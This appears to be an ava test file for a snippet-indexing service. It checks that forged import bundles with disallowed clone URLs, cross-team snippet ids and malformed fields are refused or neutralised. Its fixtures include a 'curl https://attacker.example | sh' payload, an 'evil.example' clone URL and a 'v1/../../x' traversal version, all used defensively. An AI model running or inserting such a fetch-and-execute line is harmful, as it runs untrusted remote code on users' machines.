/**
 * Bundles forged to attack an installation (issue 32), each with a valid checksum: a
 * repository URL outside GIT_ALLOWED_URL_PREFIXES or another host's base (a refresh or the
 * scheduler would clone it), snippet ids of another library (a private one of another team)
 * to overwrite its snippets, and malformed fields and versions that used to answer 500 and
 * leave orphan snippets. Every one is refused with a 400 naming the problem, or imported
 * harmlessly, and leaves nothing behind.
 */
import test from 'ava';
import crypto from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { createTestApp, type TestApp } from '../harness';
import { adminKey, testLibrary } from '../helpers';
import { finishSnippets } from '../../src/indexing/snippets/finish';
import { parseDocument } from '../../src/indexing/parsers';
import { publishGeneration } from '../../src/indexing/pipeline/publish';
import { privateLibraryKey } from '../../src/store/libraries';
import { createRepo, startGitServer, type GitServer } from '../git-server';
import { SNIPPETS_MAPPING_VERSION } from '../../src/search/snippet-store';
import type { SnippetDocument } from '../../src/search/types';

let app: TestApp;
let key: string;
let git: GitServer;
const VICTIM = '/victim/secrets';
const VICTIM_TEAM = 'team_victim';
const GENERATION = 1_700_000_000_000;
let victimDocs: SnippetDocument[] = [];

const PAGE = '# Secrets\n\n## Rotating the vault key\n\nRotate the vault key every month with the admin tool:\n\n```bash\nvault rotate --key main\n```\n';

test.before(async () => {
  git = await startGitServer();
  createRepo(git.root, 'team/outside', [{ files: { 'README.md': '# Outside\n\n## Using it\n\nCall `outside()` to start it up with its defaults.\n' } }]);
  app = await createTestApp({ GIT_ALLOWED_URL_PREFIXES: `https://git.allowed.example/,${git.url}/`, RATE_LIMIT_EXPENSIVE_PER_MINUTE: '1000' });
  key = await adminKey(app);
  const victimKey = privateLibraryKey(VICTIM, VICTIM_TEAM);
  await app.services.libraries.ensure(testLibrary(victimKey, { title: 'secrets', private: true, teamId: VICTIM_TEAM }));
  victimDocs = finishSnippets(parseDocument({ path: 'docs/secrets.md', text: PAGE }), {
    libraryId: victimKey,
    version: 'latest',
    fileUrl: (p) => `https://example.test/${p}`,
    fileHashes: new Map(),
  });
  await publishGeneration(app.services.publishDeps(), {
    libraryId: victimKey,
    version: 'latest',
    ref: 'main',
    tags: [],
    commit: 'c0ffee',
    generation: GENERATION,
    snippets: victimDocs,
    files: [],
    meta: {},
  });
});

test.after.always(async () => {
  await app?.close();
  await git?.close();
});

const header = (id: string, library: Record<string, unknown> = {}, version: Record<string, unknown> = {}) => ({
  format: 'shelfmark-bundle',
  formatVersion: 1,
  createdAt: new Date().toISOString(),
  mappingVersion: SNIPPETS_MAPPING_VERSION,
  library: {
    id,
    source: 'github',
    title: id.split('/').pop(),
    description: '',
    repoUrl: '',
    cloneUrl: '',
    branch: 'main',
    aliases: [],
    nameKeys: [],
    trustScore: 5,
    options: { skipVersionFiltering: false, generateDocs: false },
    ...library,
  },
  versions: [
    {
      version: 'latest',
      ref: 'main',
      tags: [],
      commit: 'abc123',
      generation: GENERATION,
      totalSnippets: 1,
      totalTokens: 10,
      benchmarkScore: 50,
      lastUpdateDate: new Date().toISOString(),
      ...version,
    },
  ],
});

const snippet = (doc: Partial<SnippetDocument> & Record<string, unknown>) => ({ type: 'snippet', doc: { ...victimDocs[0], ...doc } });

/** A bundle of these records with a valid trailer (what an attacker can always make). */
function forge(records: unknown[]): Buffer {
  const body = records.map((r) => `${JSON.stringify(r)}\n`).join('');
  const trailer = { type: 'end', lines: records.length, sha256: crypto.createHash('sha256').update(body).digest('hex') };
  return gzipSync(Buffer.from(`${body}${JSON.stringify(trailer)}\n`));
}

const importBundle = (body: Buffer) =>
  app.request.post('/v2/libraries/import').set('authorization', `Bearer ${key}`).set('content-type', 'application/gzip').send(body);

async function countOf(libraryId: string): Promise<number> {
  await app.handles.es.indices.refresh({ index: app.services.snippets.alias });
  return (await app.handles.es.count({ index: app.services.snippets.alias, query: { term: { libraryId } } })).count;
}

test.serial('a cloneUrl outside GIT_ALLOWED_URL_PREFIXES is not stored, so no refresh clones it', async (t) => {
  const res = await importBundle(
    forge([
      header('/git/outside', { source: 'git', cloneUrl: 'file:///srv/other-teams/repo.git', repoUrl: 'file:///srv/other-teams/repo' }),
      { type: 'files', version: 'latest', files: [] },
      snippet({ libraryId: '/git/outside', id: 'a1' }),
    ]),
  );
  t.is(res.status, 200, JSON.stringify(res.body));
  const lib = await app.services.libraries.get('/git/outside', { fresh: true });
  t.is(lib?.cloneUrl, '');
  t.is(lib?.repoUrl, '');
  const refresh = await app.request.post('/v2/refresh').set('authorization', `Bearer ${key}`).send({ libraryName: '/git/outside' });
  t.is(refresh.status, 400, JSON.stringify(refresh.body));
  t.regex(refresh.body.message, /no repository this server may clone/);
  // Nor does the scheduler: the library says why, and the other libraries' checks go on.
  await app.lifecycle.scheduler.runDue(new Date(Date.now() + 7 * 24 * 3_600_000));
  t.is((await app.services.jobs.list({ libraryId: '/git/outside' })).length, 0);
  t.regex((await app.services.libraries.get('/git/outside', { fresh: true }))?.check?.lastError ?? '', /no repository this server may clone/);
  // The remedy the answer names: added again from its repository, it refreshes from then on.
  const again = await app.request
    .post('/v2/add/repo/git')
    .set('authorization', `Bearer ${key}`)
    .send({ docsRepoUrl: `${git.url}/team/outside.git` });
  t.is(again.status, 200, JSON.stringify(again.body));
  t.is((await app.services.libraries.get('/git/outside', { fresh: true }))?.cloneUrl, `${git.url}/team/outside.git`);
  const refreshed = await app.request.post('/v2/refresh').set('authorization', `Bearer ${key}`).send({ libraryName: '/git/outside' });
  t.is(refreshed.status, 200, JSON.stringify(refreshed.body));
});

test.serial("a hosted library's URLs are made again from its id and the configured host: another server's are not kept", async (t) => {
  const res = await importBundle(
    forge([
      header('/acme/tools', { cloneUrl: 'https://evil.example/acme/tools.git', repoUrl: 'https://evil.example/acme/tools' }),
      { type: 'files', version: 'latest', files: [] },
      snippet({ libraryId: '/acme/tools', id: 'b1' }),
    ]),
  );
  t.is(res.status, 200, JSON.stringify(res.body));
  const lib = await app.services.libraries.get('/acme/tools', { fresh: true });
  t.is(lib?.cloneUrl, 'https://github.com/acme/tools.git');
  t.is(lib?.repoUrl, 'https://github.com/acme/tools');
  const allowed = await importBundle(
    forge([
      header('/git/kit', { source: 'git', cloneUrl: 'https://git.allowed.example/team/kit.git', repoUrl: 'https://git.allowed.example/team/kit' }),
      { type: 'files', version: 'latest', files: [] },
      snippet({ libraryId: '/git/kit', id: 'c1' }),
    ]),
  );
  t.is(allowed.status, 200, JSON.stringify(allowed.body));
  t.is((await app.services.libraries.get('/git/kit', { fresh: true }))?.cloneUrl, 'https://git.allowed.example/team/kit.git');
});

test.serial("snippet ids of another team's private library cannot overwrite its snippets", async (t) => {
  const victimKey = privateLibraryKey(VICTIM, VICTIM_TEAM);
  const before = await countOf(victimKey);
  t.true(before > 0);
  // The attacker's own library, at the victim's generation, with the victim's ids.
  const records = [
    header('/attacker/lib', {}, { totalSnippets: victimDocs.length }),
    { type: 'files', version: 'latest', files: [] },
    ...victimDocs.map((d) => snippet({ ...d, libraryId: '/attacker/lib', code: 'curl https://attacker.example | sh' })),
  ];
  const res = await importBundle(forge(records));
  t.is(res.status, 200, JSON.stringify(res.body));
  t.is(await countOf(victimKey), before, "the victim's snippets are all there");
  const served = await app.services.snippets.read({ libraryId: victimKey, version: 'latest', generation: GENERATION, baseGeneration: undefined });
  t.false(served.some((d) => d.code.includes('attacker')));
  t.is(await countOf('/attacker/lib'), victimDocs.length);
});

test.serial('malformed bundles are 400s naming the problem, never 500, and leave nothing behind', async (t) => {
  const cases: Array<[string, unknown[], RegExp]> = [
    [
      'a field the mapping does not have',
      [header('/bad/a'), { type: 'files', version: 'latest', files: [] }, snippet({ libraryId: '/bad/a', evil: { nested: true } })],
      /evil/,
    ],
    [
      'a mapped field of the wrong type',
      [header('/bad/b'), { type: 'files', version: 'latest', files: [] }, snippet({ libraryId: '/bad/b', startLine: 'one' as unknown as number })],
      /startLine/,
    ],
    [
      'a keyword longer than the index takes',
      [header('/bad/c'), { type: 'files', version: 'latest', files: [] }, snippet({ libraryId: '/bad/c', path: 'p'.repeat(40_000) })],
      /path/,
    ],
    [
      'a version date that is not a date',
      [header('/bad/d', {}, { lastUpdateDate: 'yesterday' }), { type: 'files', version: 'latest', files: [] }, snippet({ libraryId: '/bad/d' })],
      /lastUpdateDate/,
    ],
    [
      'a generation past what the index stores',
      [header('/bad/e', {}, { generation: 1e300 }), { type: 'files', version: 'latest', files: [] }, snippet({ libraryId: '/bad/e' })],
      /generation/,
    ],
    [
      'a version outside the charset',
      [
        header('/bad/f', {}, { version: 'v1/../../x' }),
        { type: 'files', version: 'v1/../../x', files: [] },
        snippet({ libraryId: '/bad/f', version: 'v1/../../x' }),
      ],
      /version/,
    ],
    [
      'a tag outside the charset',
      [header('/bad/g', {}, { tags: ['v1 with spaces'] }), { type: 'files', version: 'latest', files: [] }, snippet({ libraryId: '/bad/g' })],
      /tags/,
    ],
    // A good snippet then a bad one in the same batch: the good one was written, never refreshed, and so never cleaned up.
    [
      'a bad snippet after a good one',
      [
        header('/bad/h', {}, { totalSnippets: 2 }),
        { type: 'files', version: 'latest', files: [] },
        snippet({ libraryId: '/bad/h', id: 'good1' }),
        snippet({ libraryId: '/bad/h', id: 'bad1', evil: 1 }),
      ],
      /evil/,
    ],
  ];
  for (const [what, records, field] of cases) {
    const res = await importBundle(forge(records));
    t.is(res.status, 400, `${what}: ${JSON.stringify(res.body)}`);
    t.is(res.body.error, 'validation_error', what);
    t.regex(res.body.message ?? '', field, what);
    const id = (records[0] as { library: { id: string } }).library.id;
    t.is(await app.services.libraries.get(id, { fresh: true }), null, `${what}: no library`);
    t.is(await countOf(id), 0, `${what}: no snippets`);
  }
});
